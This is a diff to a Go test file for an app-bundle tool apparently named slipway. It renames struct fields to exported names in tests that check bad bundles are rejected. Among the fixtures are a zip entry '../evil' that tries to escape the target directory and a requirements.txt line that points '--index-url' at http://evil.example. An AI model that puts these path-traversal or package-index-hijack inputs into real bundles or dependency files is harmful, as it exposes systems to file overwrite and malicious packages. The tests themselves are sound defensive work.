@@ -32,10 +32,10 @@ func (s *slipway) files(dir string) []string {
 func TestABadBundleLeavesNothing(t *testing.T) {
 	t.Parallel()
 	s := up(t)
-	good := app{name: "good"}
+	good := app{Name: "good"}
 	goodID := s.importApp(good)
 	before := s.files("bundles")
-	manifest := good.manifest()
+	manifest := good.Manifest()
 	python := "AppMode = \"python\"\nModule = \"app\""
 	tests := []struct {
 		name    string
@@ -44,16 +44,16 @@ func TestABadBundleLeavesNothing(t *testing.T) {
 		words   []string
 	}{
 		{"not a zip", []byte("hello"), 2, []string{"zip"}},
-		{"a truncated zip", good.bundle(t)[:1000], 2, nil},
+		{"a truncated zip", good.Bundle(t)[:1000], 2, nil},
 		{"an entry that leads out", slipwaytest.Bundle(t, map[string]string{"app.toml": manifest, "../evil": "x"}), 2, []string{"../evil"}},
 		{"no manifest", slipwaytest.Bundle(t, map[string]string{"main.py": "x"}), 2, []string{"app.toml"}},
 		{"no TOML", slipwaytest.Bundle(t, map[string]string{"app.toml": "[App\n"}), 2, []string{"app.toml:1"}},
 		{"several faults", slipwaytest.Bundle(t, map[string]string{
 			"app.toml": "[App]\nName = \"a b\"\nVersion = \"one\"\n[Runtime]\nAppMode = \"python\"\nRoutingMode = \"PATH\"\n",
 		}), 2, []string{"app.toml:2", "app.toml:3", "app.toml:6", "Module"}},
-		{"an option in requirements.txt", app{name: "bad", runtime: python,
-			files: map[string]string{"app.py": "", "requirements.txt": "flask\n--index-url http://evil.example\n"}}.bundle(t), 2, []string{"requirements.txt:2"}},
-		{"the same again", good.bundle(t), 6, []string{"good", "1.0.0"}},
+		{"an option in requirements.txt", app{Name: "bad", Runtime: python,
+			Files: map[string]string{"app.py": "", "requirements.txt": "flask\n--index-url http://evil.example\n"}}.Bundle(t), 2, []string{"requirements.txt:2"}},
+		{"the same again", good.Bundle(t), 6, []string{"good", "1.0.0"}},
 	}
 	for _, x := range tests {
 		t.Run(x.name, func(t *testing.T) {
@@ -83,7 +83,7 @@ func TestWhatDoesNotRunSaysWhy(t *testing.T) {
 	unknown := "00000000-0000-4000-8000-000000000000"
 
 	t.Run("an app that ends at once", func(t *testing.T) {
-		appID := s.importApp(app{name: "exits", env: map[string]string{"EXIT_AT_ONCE": "1"}})
+		appID := s.importApp(app{Name: "exits", Env: map[string]string{"EXIT_AT_ONCE": "1"}})
 		s.cli("app", "run", appID, "--wait").wants(t, 1, "crashed", "slipway instance logs")
 		instance := id(s.must("instance", "list", "-o", "name"))
 		in := s.instance(instance)
@@ -99,8 +99,8 @@ func TestWhatDoesNotRunSaysWhy(t *testing.T) {
 		s.must("instance", "terminate", instance, "--wait")
 	})
 	t.Run("a Python app without a python3", func(t *testing.T) {
-		python := app{name: "python", runtime: "AppMode = \"python\"\nModule = \"app\"", files: map[string]string{"app.py": ""}}
-		r := s.cli("bundle", "import", s.file("python.wave", python.bundle(t)))
+		python := app{Name: "python", Runtime: "AppMode = \"python\"\nModule = \"app\"", Files: map[string]string{"app.py": ""}}
+		r := s.cli("bundle", "import", s.file("python.wave", python.Bundle(t)))
 		r.wants(t, 0)
 		if !strings.Contains(r.out+r.err, "apt-get install python3") {
 			t.Errorf("the import does not say how to get a python3:\n%s%s", r.out, r.err)
@@ -134,7 +134,7 @@ func TestWhatDoesNotRunSaysWhy(t *testing.T) {
 
 // terminates walks an app and its instance to their end.
 func (s *slipway) terminates(t *testing.T) {
-	appID := s.importApp(app{name: "mortal"})
+	appID := s.importApp(app{Name: "mortal"})
 	in := s.runApp(appID)
 	s.alias("grave", in.ID, true)
 	eventually(t, "the alias serves", func() bool { return s.get(s.host("grave"), "/").status == 200 })
